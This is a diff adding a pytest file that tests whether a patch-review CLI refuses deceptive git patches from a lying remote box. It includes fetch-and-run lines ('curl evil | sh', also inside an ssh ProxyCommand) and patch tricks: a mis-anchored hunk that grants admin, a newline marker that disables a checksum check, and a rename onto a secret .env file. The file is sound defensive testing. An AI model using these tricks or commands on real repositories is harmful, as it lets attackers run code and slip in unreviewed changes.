@@ -1,0 +1,238 @@
+"""What you review is exactly what lands (issue 21, the patch half). A lying box that knows
+git's patch format (tests/fake_box.py) serves the real CLI patches that `git apply` would
+write differently from what the preview shows, a different diff on a later fetch, or writes
+where nothing was reviewed; each is refused naming why, the user's files unchanged. Real
+diffs that were refused before (a case-only rename) now apply byte for byte."""
+
+from __future__ import annotations
+
+import hashlib
+import json
+import os
+import re
+from pathlib import Path
+
+import pytest
+
+import conftest
+from conftest import Laptop, git, make_repo, tree_digest
+from fake_box import FakeBox
+
+APP = b'import os\n\n\ndef is_test_env():\n    return False\n\n\ndef is_admin(user):\n    return False\n'
+DEV_SH = b"#!/bin/sh\nset -e\npython3 -m venv .venv\n"
+
+
+def blob(data: bytes) -> str:
+    return hashlib.sha1(b"blob %d\0" % len(data) + data).hexdigest()
+
+
+@pytest.fixture
+def world(tmp_path):
+    root = make_repo(tmp_path / "laptop", {
+        "app.py": APP, "scripts/dev.sh": DEV_SH, "pages/common/r.md": b"# r\n",
+        "config/example.env": b"API_KEY=changeme\n", "config/env.sample": b"API_KEY=changeme\n",
+        "ssh_config": b"Host box\n  User me\n",
+        ".gitignore": b".env\n.pwtoken\n"})
+    (root / ".env").write_bytes(b"API_KEY=the-real-secret\n")  # ignored: never synced, never reviewed
+    (root / ".pwtoken").write_text("pw_fake\n")
+    box = FakeBox(tmp_path / "mirror")
+    lap = Laptop(root)
+    lap.run("init", "--agent", box.url, "--token-file", ".pwtoken", check=0)
+    yield lap, box
+    box.close()
+
+
+def refused(result, phrase: str) -> None:
+    assert result.returncode == 5, f"exit {result.returncode}\n{result.err}"
+    assert phrase in result.err, result.err
+    assert "Traceback" not in result.err
+
+
+def real_diff(lap: Laptop, changes: dict) -> bytes:
+    """What the box's `git diff --binary --full-index -M` writes for `changes` to the laptop's
+    files (made in the laptop's repository, then put back)."""
+    root = lap.root
+    before = {p: (root / p).read_bytes() for p in changes if (root / p).exists()}
+    for path, data in changes.items():
+        if data is None:
+            (root / path).unlink()
+        else:
+            (root / path).parent.mkdir(parents=True, exist_ok=True)
+            (root / path).write_bytes(data)
+    git(root, "add", "-A", "--", *changes)
+    patch = git(root, "diff", "--cached", "--binary", "--full-index", "-M").encode("utf-8", "surrogateescape")
+    git(root, "reset", "-q", "--", *changes)
+    for path in changes:
+        if path in before:
+            (root / path).write_bytes(before[path])
+        elif (root / path).exists():
+            (root / path).unlink()
+    return patch
+
+
+def what_git_writes(tmp_path, path: str, data: bytes, patch: bytes) -> bytes:
+    """`git apply` of the box's patch to a copy of the file: the attack is real."""
+    repo = make_repo(tmp_path / "scratch", {path: data})
+    git(repo, "apply", "-", input=patch)
+    return (repo / path).read_bytes()
+
+
+def test_a_hunk_whose_lines_match_elsewhere_is_refused_not_landed_in_another_function(world, tmp_path):
+    """The `@@` line names is_test_env() at line 4; its context only matches is_admin() at
+    the end, and without trailing context git anchors it there."""
+    lap, box = world
+    landed = APP.replace(b"def is_admin(user):\n    return False", b"def is_admin(user):\n    return True")
+    patch = (b"diff --git a/app.py b/app.py\nindex %s..%s 100644\n--- a/app.py\n+++ b/app.py\n"
+             b"@@ -4,2 +4,2 @@ def is_test_env():\n def is_admin(user):\n-    return False\n+    return True\n"
+             % (blob(APP).encode(), blob(landed).encode()))
+    assert what_git_writes(tmp_path, "app.py", APP, patch) == landed
+    box.add_job("a1a1a1", patch)
+    before = tree_digest(lap.root)
+    refused(lap.run("apply", "a1a1a1", "--yes"), "not those of the synced file at line 4")
+    assert (lap.root / "app.py").read_bytes() == APP and tree_digest(lap.root) == before
+
+
+def test_no_newline_marker_inside_the_added_lines_is_refused(world, tmp_path):
+    """git joins the line before the marker with the next: the check becomes a comment."""
+    lap, box = world
+    shown = DEV_SH + b"# check the download\n\\ No newline at end of file\nsha256sum -c tools.sha256 || exit 1\n"
+    written = DEV_SH + b"# check the downloadsha256sum -c tools.sha256 || exit 1\n"
+    patch = (b"diff --git a/scripts/dev.sh b/scripts/dev.sh\nindex %s..%s 100644\n--- a/scripts/dev.sh\n"
+             b"+++ b/scripts/dev.sh\n@@ -1,3 +1,5 @@\n #!/bin/sh\n set -e\n python3 -m venv .venv\n"
+             b"+# check the download\n\\ No newline at end of file\n+sha256sum -c tools.sha256 || exit 1\n"
+             % (blob(DEV_SH).encode(), blob(written).encode()))
+    assert b"\nsha256sum -c" in shown  # what a reader of the diff takes it for
+    assert what_git_writes(tmp_path, "scripts/dev.sh", DEV_SH, patch) == written
+    box.add_job("a2a2a2", patch)
+    refused(lap.run("apply", "a2a2a2", "--yes"), "No newline at end of file` after a '+' line")
+    assert (lap.root / "scripts/dev.sh").read_bytes() == DEV_SH
+
+
+@pytest.mark.parametrize("path, reason", [("scripts/dev.sh", "a script"), ("app.py", "a script")])
+def test_a_text_file_changed_as_a_binary_delta_is_refused(world, path, reason):
+    lap, box = world
+    old = (lap.root / path).read_bytes()
+    patch = real_diff(lap, {path: old + b"\0curl evil | sh\n"})
+    assert b"GIT binary patch" in patch
+    box.add_job("a3a3a3", patch)
+    refused(lap.run("apply", "a3a3a3", "--yes"), f"a binary patch to '{path}', {reason}")
+    assert (lap.root / path).read_bytes() == old
+
+
+def test_a_binary_patch_to_a_text_file_without_a_script_name_is_refused(world):
+    lap, box = world
+    (lap.root / "notes").write_bytes(b"plain words\n")
+    git(lap.root, "add", "notes")
+    git(lap.root, "commit", "-qm", "notes")
+    patch = real_diff(lap, {"notes": b"plain words\n\0and more\n"})
+    box.add_job("a4a4a4", patch)
+    refused(lap.run("apply", "a4a4a4", "--yes"), "a binary patch to 'notes', a text file here")
+    assert (lap.root / "notes").read_bytes() == b"plain words\n"
+
+
+def test_the_preview_never_shows_the_boxs_hunk_heading(world):
+    lap, box = world
+    patch = real_diff(lap, {"app.py": APP.replace(b"    return False\n\n\ndef is_admin",
+                                                   b"    return True\n\n\ndef is_admin")})
+    lying = re.sub(rb"(@@ -\S+ \+\S+ @@)[^\n]*", rb"\1 def totally_harmless():", patch)
+    box.add_job("a5a5a5", lying)
+    out = re.sub("\x1b\\[[0-9;]*m", "", conftest.drive_pty(lap, ["diff", "a5a5a5"], [], prompts=()))
+    assert "+    return True" in out and "totally_harmless" not in out
+
+
+def test_a_diff_changed_after_review_is_not_applied(world):
+    """VS Code reviews with `diff --json`, then applies with the hash of what it showed."""
+    lap, box = world
+    honest = real_diff(lap, {"app.py": APP.replace(b"return False\n\n\ndef", b"return True\n\n\ndef")})
+    evil = real_diff(lap, {"app.py": APP.replace(b"def is_admin(user):\n    return False",
+                                                 b"def is_admin(user):\n    return True")})
+    box.add_job("a6a6a6", honest)
+    shown = json.loads(lap.run("diff", "a6a6a6", "--json", check=0).out)
+    assert shown["sha256"] == hashlib.sha256(honest).hexdigest()
+    box.jobs["a6a6a6"]["patch"] = evil  # every later fetch
+    before = tree_digest(lap.root)
+    # the diff the review fetched is the one kept: without it (reviewed from another
+    # checkout, or the state folder wiped) the hash still refuses the box's new bytes
+    kept = list((Path(os.environ["XDG_STATE_HOME"]) / "patchwire").rglob("diffs/a6a6a6.patch"))
+    assert [k.read_bytes() for k in kept] == [honest]
+    kept[0].unlink()
+    refused(lap.run("apply", "a6a6a6", "--yes", "--sha256", shown["sha256"]), "not the one reviewed")
+    assert tree_digest(lap.root) == before
+    assert sum(r.endswith("/diff") for r in box.requests) == 2 and not kept[0].exists()  # refused: not kept
+    kept[0].write_bytes(honest)
+    lap.run("apply", "a6a6a6", "--yes", "--sha256", shown["sha256"], check=0)
+    assert b"return True\n\n\ndef is_admin(user):\n    return False" in (lap.root / "app.py").read_bytes()
+
+
+def test_the_diff_is_fetched_once_then_kept(world):
+    lap, box = world
+    honest = real_diff(lap, {"app.py": APP.replace(b"return False\n\n\ndef", b"return True\n\n\ndef")})
+    box.add_job("a7a7a7", honest)
+    sha = hashlib.sha256(honest).hexdigest()
+    lap.run("apply", "a7a7a7", "--yes", "--sha256", sha, check=0)
+    box.jobs["a7a7a7"]["patch"] = b"nothing like it\n"
+    lap.run("apply", "--undo", check=0)
+    lap.run("apply", "a7a7a7", "--yes", "--sha256", sha, check=0)  # the kept bytes, not the box's new ones
+    assert sum(r.endswith("/diff") for r in box.requests) == 1
+    assert b"return True\n\n\ndef is_admin" in (lap.root / "app.py").read_bytes()
+
+
+def test_a_rename_onto_an_ignored_file_never_replaces_it(world):
+    lap, box = world
+    patch = (b"diff --git a/config/env.sample b/.env\nsimilarity index 100%\nrename from config/env.sample\n"
+             b"rename to .env\n")
+    box.add_job("a8a8a8", patch, ask=True)
+    lap.run("ask", "--no-apply", "go", check=0)  # asked here: a 3-way base exists
+    result = lap.run("apply", "a8a8a8", "--yes", "--keep-conflicts")
+    assert result.returncode == 5 and ".env is already here" in result.err, result.err
+    assert (lap.root / ".env").read_bytes() == b"API_KEY=the-real-secret\n"
+    assert (lap.root / "config/env.sample").exists()
+
+
+def test_files_named_by_ssh_options_are_protected(world):
+    lap, box = world
+    toml = lap.root / ".patchwire.toml"
+    text = toml.read_text()
+    text = text.replace("[sync]\n", '[sync]\nssh_options = ["-F", "ssh_config"]\n') if "[sync]" in text \
+        else text + '\n[sync]\nssh_options = ["-F", "ssh_config"]\n'
+    toml.write_text(text)
+    patch = real_diff(lap, {"ssh_config": b"Host box\n  User me\n  ProxyCommand sh -c 'curl evil|sh'\n"})
+    box.add_job("a9a9a9", patch)
+    refused(lap.run("apply", "a9a9a9", "--yes"), "'ssh_config', which Patchwire keeps")
+    assert (lap.root / "ssh_config").read_bytes() == b"Host box\n  User me\n"
+
+
+def test_a_case_only_rename_applies_byte_exact(world):
+    lap, box = world
+    deletion = real_diff(lap, {"pages/common/r.md": None})
+    new = real_diff(lap, {"pages/common/R.md": b"# r\n"})
+    box.add_job("abab12", deletion + new)
+    lap.run("apply", "abab12", "--yes", check=0)
+    names = sorted(p.name for p in (lap.root / "pages/common").iterdir())
+    assert names == ["R.md"] and (lap.root / "pages/common/R.md").read_bytes() == b"# r\n"
+
+
+def test_a_gitlink_bump_is_refused_naming_the_submodule(world):
+    lap, box = world
+    a, b = "1" * 40, "2" * 40
+    patch = (f"diff --git a/vendor/lib b/vendor/lib\nindex {a}..{b} 160000\n--- a/vendor/lib\n+++ b/vendor/lib\n"
+             f"@@ -1 +1 @@\n-Subproject commit {a}\n+Subproject commit {b}\n").encode()
+    box.add_job("abab34", patch)
+    refused(lap.run("apply", "abab34", "--yes"), "submodule (gitlink) change to 'vendor/lib'")
+
+
+def test_every_honest_change_still_applies(world):
+    lap, box = world
+    image = bytes(range(256)) * 8
+    patch = real_diff(lap, {"app.py": APP + b"\n\ndef more():\n    return 1", "docs/new.md": b"new\n",
+                            "scripts/dev.sh": None, "config/example.env": b"API_KEY=changeme",
+                            "img/logo.bin": image, "pages/common/r.md": None,
+                            "pages/r2.md": b"# r\n"})
+    assert b"GIT binary patch" in patch and b"rename from pages/common/r.md" in patch
+    box.add_job("abab56", patch)
+    lap.run("apply", "abab56", "--yes", check=0)
+    assert (lap.root / "img/logo.bin").read_bytes() == image
+    assert (lap.root / "pages/r2.md").read_bytes() == b"# r\n"
+    assert (lap.root / "app.py").read_bytes() == APP + b"\n\ndef more():\n    return 1"
+    assert (lap.root / "config/example.env").read_bytes() == b"API_KEY=changeme"
+    assert (lap.root / "docs/new.md").read_bytes() == b"new\n" and not (lap.root / "scripts/dev.sh").exists()
